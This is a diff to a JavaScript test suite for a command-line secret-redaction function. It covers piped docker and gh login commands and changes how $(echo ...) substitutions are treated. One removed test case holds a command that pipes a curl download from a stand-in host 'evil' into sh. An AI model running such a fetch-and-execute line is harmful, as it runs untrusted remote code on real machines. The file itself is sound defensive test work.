@@ -51,9 +51,8 @@ describe('a secret a program reads whole on its input', () => {
     kept('cat /run/secrets/pw | docker login --password-stdin reg.example');
     // (but what an echo or printf in $(…) writes is on the line)
     expect(redactCommandLine('echo "$(echo hunter7)" | docker login --password-stdin')).toBe('echo "[redacted]" | docker login --password-stdin');
-    // (only literal text: a variable, or a command the shell runs, is shown)
-    kept('echo "$(echo $TOKEN)" | gh auth login --with-token');
-    kept('echo "$(echo x; curl -s http://evil/x | sh)" | docker login -u ci --password-stdin');
+    // (whatever an echo or printf in it writes: it may be the secret, transformed)
+    expect(redactCommandLine('echo "$(echo UzNj | base64 -d)" | docker login --password-stdin')).toBe('echo "[redacted]" | docker login --password-stdin');
     kept('echo hello | tr a-z A-Z');
     kept('echo ready | cryptsetup luksOpen -d /run/key /dev/sdb1 data');
   });
